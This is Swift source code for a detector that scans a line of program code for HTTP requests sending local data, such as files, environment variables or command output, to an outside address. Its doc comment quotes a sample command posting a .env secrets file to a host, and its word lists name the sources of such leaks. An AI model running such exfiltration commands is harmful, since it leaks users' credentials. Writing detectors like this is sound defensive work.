/// What one line of a program asks of other machines: `python3 -c 'requests.post("https://host/", data=open(".env"))'`.
///
/// As with `curl`, what only fetches a fixed address is let be: asked for is an address, something that reaches for it, and
/// something that is sent there. What opens a connection by itself is told by `SocketHosts`.
enum ProgramRequest {
  /// The addresses that a line sends something to, as they were written; none where it sends nothing.
  static func targets(in code: String) -> [String] {
    let bytes = Array(code.utf8)
    var (reaches, sends) = (false, false)
    var addresses: [String] = []
    var index = 0
    while index < bytes.count {
      let byte = bytes[index]
      guard ByteClass.isLetter(byte) || byte == 0x5F else {
        if byte == UInt8(ascii: "`") || byte == UInt8(ascii: "$") && begins(bytes, at: index + 1) { sends = true }
        index += 1
        continue
      }
      let end = bytes.end(from: index, while: isOfName)
      let name = String(decoding: bytes[index..<end], as: UTF8.self)
      if bytes.holds("://", at: end) {
        let close = bytes.end(from: end + 3, while: isOfAddress)
        addresses.append(String(decoding: bytes[index..<close], as: UTF8.self))
        if isFilled(bytes, end + 3..<close) { sends = true }
        index = close
        continue
      }
      let word = name.lowercased()
      if reaching.contains(word) { reaches = true }
      if hosts.contains(word), let host = literal(bytes, after: end) { addresses.append(host) }
      if senders.contains(word) || readers.contains(name) || readsFile(bytes, index..<end, word) { sends = true }
      if members.contains(word), isNamed(bytes, after: end) { sends = true }
      if word == "method", let value = literal(bytes, after: end), value.lowercased() != "get" { sends = true }
      index = end
    }
    return reaches && sends ? addresses : []
  }

  // MARK: The words

  /// Libraries, classes and functions that turn to an address.
  private static let reaching = words(
    """
    requests httpx urllib urllib2 urllib3 urlopen urlretrieve aiohttp pycurl httplib2 fetch axios got http https http2 needle superagent
    undici websocket xmlhttprequest sendbeacon file_get_contents fopen curl_init get_headers soapclient lwp useragent mechanize mojo
    httparty restclient faraday excon uri net
    """)
  /// Members that name a machine.
  private static let hosts = words("hostname host")
  /// What is called to send something.
  private static let senders = words(
    "post put patch post_form postform put_file upload sendbeacon sendall post_json postfields curlopt_postfields")
  /// What is given to a request to be sent.
  private static let members = words("data json files params content body form query")
  /// What brings something of the machine into a program, as it is written.
  private static let readers: Set<String> = [
    "readFile", "readFileSync", "createReadStream", "execSync", "spawnSync", "child_process", "env", "ENV", "_ENV",
    "environ", "getenv", "popen", "subprocess", "check_output", "system", "shell_exec", "passthru", "stdin", "STDIN",
    "input", "read_text", "read_bytes", "glob", "listdir", "walk", "slurp", "gethostname", "getlogin", "getuser",
    "userInfo", "expanduser", "homedir", "urlencode", "quote", "b64encode", "base64_encode", "encode_base64",
  ]

  private static func words(_ text: String) -> Set<String> {
    Set(text.listed.map { String($0) })
  }

  // MARK: What stands around them

  private static func isOfName(_ byte: UInt8) -> Bool { ByteClass.isAlphanumeric(byte) || byte == 0x5F }

  private static func isOfAddress(_ byte: UInt8) -> Bool { byte > 0x20 && !"\"'`<>\\);,".utf8.contains(byte) }

  /// `$NAME`, `${NAME}` and `$(command)` of a shell, `${…}` of a template; small letters are variables of the program's own.
  private static func begins(_ bytes: [UInt8], at index: Int) -> Bool {
    index < bytes.count && (bytes[index].isUpper || bytes[index] == UInt8(ascii: "(") || bytes[index] == 0x7B)
  }

  /// Whether an address is put together: braces or a variable within it, or a sign after its quotation mark that joins texts.
  private static func isFilled(_ bytes: [UInt8], _ address: Range<Int>) -> Bool {
    if bytes[address].contains(where: { $0 == 0x7B || $0 == UInt8(ascii: "$") }) { return true }
    let quote = address.upperBound
    guard quote < bytes.count, "\"'`".utf8.contains(bytes[quote]) else { return false }
    let next = bytes.end(from: quote + 1, limit: quote + 4) { $0 == 0x20 }
    return next < bytes.count && "+%.".utf8.contains(bytes[next])
  }

  /// The text in quotation marks that a member is given: `hostname: 'host.example'`, `host="…"`.
  private static func literal(_ bytes: [UInt8], after end: Int) -> String? {
    let sign = bytes.end(from: end, limit: end + 4) { $0 == 0x20 || $0 == 0x22 || $0 == 0x27 }
    guard sign < bytes.count, bytes[sign] == UInt8(ascii: ":") || bytes[sign] == UInt8(ascii: "=") else { return nil }
    let start = bytes.end(from: sign + 1, limit: sign + 4) { $0 == 0x20 || $0 == UInt8(ascii: ">") }
    guard start < bytes.count, bytes[start] == 0x22 || bytes[start] == 0x27 else { return nil }
    let close = bytes.end(from: start + 1, limit: start + 256, while: isOfAddress)
    return close > start + 1 ? String(decoding: bytes[start + 1..<close], as: UTF8.self) : nil
  }

  /// Whether a name is that of a member or an argument which is given something: `data=…`, `body: …`, `'json' => …`.
  private static func isNamed(_ bytes: [UInt8], after end: Int) -> Bool {
    let sign = bytes.end(from: end, limit: end + 4) { $0 == 0x20 || $0 == 0x22 || $0 == 0x27 }
    guard sign < bytes.count else { return false }
    return bytes[sign] == UInt8(ascii: ":") || bytes[sign] == UInt8(ascii: "=") && !bytes.holds("==", at: sign)
  }

  /// Whether a file is opened: by `open(…)`, but not by `URI.open`, or by `File.read` and the like.
  private static func readsFile(_ bytes: [UInt8], _ name: Range<Int>, _ word: String) -> Bool {
    if word == "file" || word == "io" {
      let calls: [StaticString] = [".read", ".binread", ".open", ".foreach"]
      return calls.contains { bytes.holds($0, at: name.upperBound) }
    }
    guard word == "open", bytes.holds("(", at: name.upperBound) || bytes.holds(" ", at: name.upperBound) else {
      return false
    }
    let before = name.lowerBound
    return before == 0 || bytes[before - 1] != UInt8(ascii: ".") || bytes.holds("os.", at: before - 3)
      || bytes.holds("io.", at: before - 3)
  }
}
